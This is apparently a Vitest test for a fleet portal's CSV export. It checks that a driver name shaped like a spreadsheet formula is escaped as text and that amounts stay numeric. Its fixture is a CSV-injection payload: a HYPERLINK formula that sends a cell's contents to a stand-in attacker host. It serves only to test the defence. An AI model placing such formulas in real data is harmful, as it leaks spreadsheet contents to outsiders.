import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CARS_TABS } from '../../core/fleet/cars-tabs.ts';
import { type DemoBff, demoBff } from '../support/demo-bff.ts';

/**
 * The fleet export is opened in Excel: a name a user typed that starts like a formula must arrive as
 * text (a leading single quote, OWASP "CSV Injection"), while amounts stay numbers.
 */

const API = '/portal/api/bff/fleet';
const FORMULA = '=HYPERLINK("https://boese.example/?d="&A2,"Details")';

let bff: DemoBff;
beforeAll(async () => {
  bff = await demoBff();
});
afterAll(() => bff?.close());

describe('the fleet CSV export', () => {
  it('writes a driver named like a formula as text, and amounts as numbers', async () => {
    const admin = await bff.signIn('admin@nordflotte.example');
    const contact = await admin.post(`${API}/contacts`, {
      payload: {
        firstName: FORMULA,
        lastName: 'Pool',
        email: 'formel@nordflotte.example',
        role: 'driver',
        phoneNumber: '+4915199999999',
      },
    });
    expect(contact.statusCode, contact.body).toBe(201);
    const assigned = await admin.put(`${API}/orders/f-2002/driver`, {
      payload: { contactId: contact.json().data.id },
    });
    expect(assigned.statusCode, assigned.body).toBeLessThan(300);

    const lines: string[] = [];
    for (const tab of CARS_TABS) {
      const answer = await admin.get(`${API}/cars/export?tab=${tab}`);
      expect(answer.statusCode, answer.body).toBe(200);
      lines.push(
        ...answer.body
          .replace(/^\uFEFF/, '')
          .trim()
          .split('\n')
          .slice(1),
      );
    }
    const order = lines.find((line) => line.startsWith('f-2002;'));
    // A cell with quotes is quoted, its quotes doubled; the quote character inside starts the text.
    expect(order).toContain(`;"'${FORMULA.replaceAll('"', '""')} Pool";`);
    // The gross monthly rate (the tenth column), in the portal's one money format: never a formula.
    const amounts = lines.map((line) => line.split(';')[9]).filter(Boolean);
    expect(amounts.length).toBeGreaterThan(0);
    for (const amount of amounts) expect(amount).toMatch(/^-?\d{1,3}(\.\d{3})*(,\d{2})?\u00a0€$/);
  });
});
